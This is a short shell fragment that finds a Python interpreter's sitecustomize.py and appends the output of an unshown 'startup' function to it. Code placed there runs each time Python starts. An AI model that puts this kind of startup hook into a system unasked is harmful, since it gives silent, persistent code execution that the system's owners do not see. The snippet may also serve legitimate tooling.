python
at=$("$REAL" -c 'import importlib.util as u; s = u.find_spec("sitecustomize"); print(s.origin if s else "")')
[ -n "$at" ] || at=$("$REAL" -c 'import os; print(os.path.dirname(os.__file__))')/sitecustomize.py
startup >> "$(readlink -f "$at")"
